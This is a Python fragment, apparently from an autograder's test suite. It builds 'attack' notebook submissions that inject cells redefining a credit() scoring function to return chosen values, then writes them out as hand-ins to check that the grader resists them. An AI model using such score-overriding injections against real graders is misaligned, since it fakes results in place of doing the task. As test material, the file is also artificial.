           *[Attack(f"scores {number:02d}", {"credit": f"def credit():\n    return {value}"}, lost={"gap:credit_test": 3 - worth})
             for number, (value, worth) in enumerate(SCORES.items())]]  # fmt: skip


def write(folder, attack, right, answer, known):
    """Write an attack as a hand-in.

    Parameters
    ----------
    folder : path
    attack : Attack
    right : dict of str to dict of str to str
        Right answers by notebook.
    answer : callable
        Makes notebooks from answers.
    known : dict of str to object
        What stands for ``{root}`` and the others.
    """

    def fill(text):
        for name, value in known.items():
            text = text.replace(f"{{{name}}}", str(value))
        return text

    answers = {book: {id: fill(attack.answers.get(id, source)) for id, source in cells.items()} for book, cells in right.items()}
    books = answer(answers)
    assert set(attack.answers) <= {id for cells in right.values() for id in cells}, attack.name
    books[attack.book].cells.insert(0, nbformat.v4.new_code_cell(HEAD + fill(attack.first)))
    books[attack.book].cells.append(nbformat.v4.new_code_cell(HEAD + fill(attack.last)))
    after = attack.shape(books) if attack.shape else None
    place = Path(folder) / attack.name
    place.mkdir(parents=True)
    for name, book in books.items():
        nbformat.write(book, place / f"{name}.ipynb")
    if after:
        after(place)
